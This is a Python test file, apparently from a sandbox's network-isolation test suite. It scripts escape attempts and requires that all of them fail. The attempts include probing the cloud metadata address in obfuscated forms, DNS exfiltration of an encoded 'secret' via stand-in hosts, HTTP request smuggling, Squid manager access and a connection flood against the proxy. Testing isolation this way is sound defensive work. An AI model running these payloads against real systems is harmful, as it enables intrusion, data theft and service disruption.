"""Getting out: without a network, and past the proxy of a run that may reach one host."""

from tests.attacks.attack import PRELUDE, REPORT, Attack, nothing_gained
from tests.executions.images import python

HOSTS = ("api.test:443",)
PROXY = """
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
def ask(text):
    with socket.create_connection((proxy.hostname, proxy.port), 5) as s:
        s.settimeout(5); s.sendall(text.encode()); return s.recv(4096).decode("latin-1")
def tunnel(target, headers=""):
    answer = ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n{headers}\\r\\n")
    if " 200" not in answer.split("\\r\\n")[0]: raise OSError(answer[:40])
    return answer[:40]
"""
DIRECT = """
def connect(where):
    with socket.create_connection(where, 1): return where
for where in (("172.17.0.1", 22), ("169.254.169.254", 80), ("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.0.1", 22)):
    attempt(where, lambda: connect(where))
for kind in (socket.SOCK_RAW,):
    for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET, 255), (socket.AF_PACKET, 3)):
        attempt(f"raw {family}", lambda: socket.socket(family, kind, protocol))
"""


def _offline(name: str, promise: str, text: str) -> Attack:
    return Attack(name, promise, ("succeeded",), python(PRELUDE + text + REPORT), check=nothing_gained)


def _online(name: str, promise: str, text: str) -> Attack:
    program = python(PRELUDE + PROXY + text + REPORT)
    return Attack(name, promise, ("succeeded",), program, check=nothing_gained, hosts=HOSTS, limits={"timeout": 20})


ATTACKS = (
    _offline(
        "network without permission",
        "no address, no name, no raw packet",
        DIRECT
        + """
attempt("dns", lambda: socket.getaddrinfo("secret.example.org", 80))
attempt("interface", lambda: [n for _, n in socket.if_nameindex() if n != "lo"][0])
for family in (16, 38, 40, 44):
    for kind in (1, 2, 3):
        if family != 16: attempt(f"family {family}", lambda: socket.socket(family, kind))
def route():
    s = socket.socket(16, 3, 0)
    s.bind((0, 0)); s.sendall(struct.pack("=IHHII", 16, 16, 5, 1, 0)); raise OSError
attempt("netlink", route)
""",
    ),
    _online("past the proxy", "the proxy is all that can be reached", DIRECT),
    _online(
        "names as messengers",
        "no question reaches a resolver except the declared host's, by the proxy",
        """
attempt("lookup", lambda: socket.getaddrinfo("c2VjcmV0.other.test", 80))
for server in (proxy.hostname, "8.8.8.8", "1.1.1.1"):
    def question():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            s.connect((server, 53)); s.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\5other\\4test\\0\\0\\1\\0\\1"); return s.recv(512)
    attempt("dns at " + server, question)
attempt("through the proxy", lambda: tunnel("c2VjcmV0.api.test:443"))
""",
    ),
    _online(
        "hosts that were not declared",
        "refused by name, port and address, however they are written",
        """
for target in ("other.test:443", "api.test:80", "api.test:22", "api.test.:444", "api.test.other.test:443", "API.TEST:80",
               "169.254.169.254:80", "[::ffff:a9fe:a9fe]:80", "2852039166:80", "0xa9fea9fe:80", "127.0.0.1:3128", "localhost:3128",
               "proxy:3128", "0:3128", "172.17.0.1:2375", "api.test@other.test:443", "other.test#api.test:443"):
    attempt(target, lambda: tunnel(target))
attempt("host header", lambda: tunnel("other.test:443", "Host: api.test:443\\r\\n"))
for method in ("GET", "POST", "PUT", "OPTIONS", "TRACE", "PURGE"):
    def page():
        first = ask(f"{method} http://other.test/ HTTP/1.1\\r\\nHost: api.test\\r\\nMax-Forwards: 0\\r\\nConnection: close\\r\\n\\r\\n").split("\\r\\n")[0]
        if " 200" not in first: raise OSError(first)
        return first
    attempt(method, page)
""",
    ),
    _online(
        "the proxy itself",
        "shows nothing, takes no smuggled request, and goes on",
        """
for path in ("/squid-internal-mgr/menu", "/squid-internal-mgr/config", "/squid-internal-dynamic/netdb", "/squid-internal-static/icons/x"):
    def manager():
        first = ask(f"GET http://{proxy.netloc}{path} HTTP/1.1\\r\\nHost: proxy\\r\\nConnection: close\\r\\n\\r\\n").split("\\r\\n")[0]
        if " 200" not in first: raise OSError(first)
        return first
    attempt(path, manager)
for text in ("GET / HTTP/1.1\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nCONNECT other.test:443 HTTP/1.1\\r\\n\\r\\n",
             "CONNECT other.test:443\\nHTTP/1.1\\r\\n\\r\\n", "X" * 100_000, "\\x16\\x03\\x01\\x02", "PROXY TCP4 10.0.0.1 10.0.0.1 1 1\\r\\n"):
    def smuggle():
        first = ask(text)
        if " 200" not in first: raise OSError
        return first[:60]
    attempt(text[:30], smuggle)
kept = []
try:
    for _ in range(700): kept.append(socket.create_connection((proxy.hostname, proxy.port), 2))
except OSError: pass
for s in kept: s.close()
time.sleep(0.2)
if "200" not in tunnel("api.test:443"): got.append("the proxy is gone")
""",
    ),
)
